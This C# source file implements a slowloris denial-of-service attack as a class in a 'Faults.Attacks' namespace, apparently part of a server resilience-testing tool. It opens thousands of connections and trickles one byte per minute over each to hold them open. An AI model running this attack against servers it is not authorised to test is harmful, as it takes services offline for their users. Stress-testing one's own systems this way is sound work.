using System.Globalization;
using System.Net;
using System.Net.Sockets;

namespace Faults.Attacks;

/// <summary>Connections that stay, and send a byte a minute each.</summary>
internal sealed class Slowloris : IAttack
{
    private static readonly TimeSpan _interval = TimeSpan.FromMinutes(1);

    public string Name => "slowloris";

    public string Description => "connections that send a byte a minute";

    public int Count => 10_000;

    public async Task<string> RunAsync(IPEndPoint server, int count, AttackProgress progress, CancellationToken stop)
    {
        var peers = await Peers.OpenServedAsync(server, count, stop);
        progress.Ready();
        progress.Enough();
        var sent = 0;
        while (await Peers.PauseAsync(_interval / count, stop))
        {
            await peers[sent++ % count].SendAsync(new byte[1], SocketFlags.None, CancellationToken.None);
        }

        foreach (var peer in peers)
        {
            peer.Dispose();
        }

        return string.Create(CultureInfo.InvariantCulture, $"{count:N0} connections sent {sent:N0} bytes");
    }
}
